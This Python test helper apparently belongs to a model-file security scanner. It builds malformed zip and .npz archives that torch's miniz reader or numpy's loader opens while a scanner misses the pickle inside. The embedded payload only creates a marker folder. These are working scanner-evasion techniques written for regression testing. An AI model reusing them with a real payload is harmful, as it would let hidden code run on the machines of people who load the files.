"""Builders of zips whose directory torch's reader (miniz 3.0.2 as torch patches it, `mz_zip_reader_read_central_dir`)
or np.load's (Python's zipfile, streaming a member) finds where scan once did not (docs/security.md, the twenty-second
pass): an end record further back than zipfile looks, a zip64 locator miniz follows or ignores by the end record's
offset, a size of 0xFFFFFFFF on an entry nothing reads, an `.npz` member whose sizes zipfile never checks before
np.load unpickles it. Each payload is tests/polyglots.py's (it creates the folder `marker`). Not collected by pytest."""
from __future__ import annotations

import io
import pickle
import struct
import zlib

import numpy as np
from polyglots import payload

MAX32 = 0xFFFFFFFF


def _member(name: str, data: bytes, at: int, method: int = 0, csize: int | None = None, usize: int | None = None,
            extra: bytes = b"") -> tuple[bytes, bytes]:
    """(local header and data at offset `at`, the central-directory entry; `csize` / `usize` / `extra` as it states
    them) of one member (APPNOTE 4.3.7, 4.3.12)."""
    raw, crc = name.encode(), zlib.crc32(data)
    body = data if method == 0 else (lambda c: c.compress(data) + c.flush())(zlib.compressobj(9, zlib.DEFLATED, -15))
    local = struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, 0, method, 0, 0, crc, len(body), len(data), len(raw), 0)
    central = struct.pack("<4s6H3L5H2L", b"PK\x01\x02", 20, 20, 0, method, 0, 0, crc,
                          len(body) if csize is None else csize, len(data) if usize is None else usize,
                          len(raw), len(extra), 0, 0, 0, 0, at)
    return local + raw + body, central + raw + extra


def _torch(pkl: bytes) -> list[tuple[str, bytes]]:
    return [("archive/data.pkl", pkl), ("archive/byteorder", b"little"), ("archive/version", b"3\n"),
            ("archive/.data/serialization_id", b"1234567890")]


def _members(members: list[tuple], at: int) -> tuple[bytes, bytes]:
    """(the local records from offset `at`, their directory) of (name, data, keyword arguments of _member) tuples."""
    body, cd = b"", b""
    for name, data, *kw in members:
        local, central = _member(name, data, at + len(body), **(kw[0] if kw else {}))
        body, cd = body + local, cd + central
    return body, cd


def _end(count: int, cd: bytes, at: int, comment: int = 0) -> bytes:
    return struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, count, count, len(cd), at, comment)


def _zip(members: list[tuple], between: bytes = b"", after: bytes = b"") -> bytes:
    body, cd = _members(members, 0)
    return body + between + cd + _end(len(members), cd, len(body) + len(between)) + after


def end_record_far_back(marker: str) -> bytes:
    """The end record followed by 68,978 bytes: miniz's backwards search in 4 KiB blocks finds it (up to ~69.6 KB
    back); zipfile looks in the last 65,557 bytes only."""
    return _zip([(n, d) for n, d in _torch(payload(marker))], between=b"\0" * 100_000, after=b"\0" * 68_978)


def zip64_locator_far_back(marker: str) -> bytes:
    """Two torch archives' records; the end record's 32-bit fields name the benign one's directory, the zip64
    locator just before it (65,552 bytes from the end, past a 64 KiB window's start) the payload's: miniz reads the
    locator from the file wherever the end record starts 76 bytes or more in."""
    benign = [(n, d) for n, d in _torch(pickle.dumps({"a": 1}, protocol=2))]
    hostile = [(n, d) for n, d in _torch(payload(marker))]
    la, cda = _members(benign, 0)
    lb, cdb = _members(hostile, len(la))
    body = la + lb + b"\0" * 8192
    cda_at, cdb_at = len(body), len(body) + len(cda)
    body += cda + cdb
    z64_at = len(body)
    body += struct.pack("<4sQ2H2L4Q", b"PK\x06\x06", 44, 45, 45, 0, 0, len(hostile), len(hostile), len(cdb), cdb_at)
    body += struct.pack("<4sLQL", b"PK\x06\x07", 0, z64_at, 1)
    return body + _end(len(benign), cda, cda_at) + b"\0" * 65_530


def zip64_locator_too_early(marker: str) -> bytes:
    """An end record at offset 60 with a zip64 locator before it naming a benign directory: miniz looks for a
    locator only before an end record 76 bytes or more in, so it reads the 32-bit fields: the payload's directory."""
    benign = [(n, d) for n, d in _torch(pickle.dumps({"a": 1}, protocol=2))]
    hostile = [(n, d) for n, d in _torch(payload(marker))]
    start = 60 + 22 + 56                                   # the end record, then the zip64 record, then the members
    la, cda = _members(benign, start)
    lb, cdb = _members(hostile, start + len(la))
    cda_at = start + len(la) + len(lb)
    cdb_at = cda_at + len(cda)
    z64 = struct.pack("<4sQ2H2L4Q", b"PK\x06\x06", 44, 45, 45, 0, 0, len(benign), len(benign), len(cda), cda_at)
    head = struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, 0, 0, 0, 0, 0, 0, 0, 0, 0) + b"\0" * 10
    locator = struct.pack("<4sLQL", b"PK\x06\x07", 0, 60 + 22, 1)
    tail = z64 + la + lb + cda + cdb
    out = head + locator + struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, len(hostile), len(hostile), len(cdb), cdb_at,
                                       len(tail)) + tail
    assert out.index(b"PK\x06\x07") == 40 and out.rindex(b"PK\x05\x06") == 60
    return out


def unread_entry_size_max(marker: str, zip64_field: bool = False) -> bytes:
    """A torch archive with one more entry, never read, whose compressed size is 0xFFFFFFFF (with no extra data, or
    with an empty zip64 field then two empty fields): torch's miniz skips its size checks for it, or reads the
    zip64 values from the rest of the extra data, and opens the archive."""
    extra = struct.pack("<6H", 1, 0, 5, 0, 0, 0) if zip64_field else b""
    members = [(n, d) for n, d in _torch(payload(marker))] + [("archive/extra/x", b"hello", {"csize": MAX32, "extra": extra})]
    return _zip(members)


def _npy_object(pkl: bytes) -> bytes:
    buf = io.BytesIO()
    np.lib.format.write_array_header_1_0(buf, {"descr": "|O", "fortran_order": False, "shape": (1,)})
    return buf.getvalue() + pkl


def npz_sizes_unchecked(marker: str, deflated: bool) -> bytes:
    """An `.npz` whose object member's stated uncompressed size is 100 bytes more than its stored size, or (deflated)
    3 GB: zipfile streams the member to np.load, which unpickles it before either size matters."""
    body = _npy_object(payload(marker))
    kw = {"method": 8, "usize": 3_000_000_000} if deflated else {"usize": len(body) + 100}
    return _zip([("arr.npy", body, kw)])


NP_LOADER = ("import sys, numpy as np\ntry:\n    z = np.load(sys.argv[1], allow_pickle=True); [z[k] for k in z.files]\n"
             "except Exception:\n    pass")
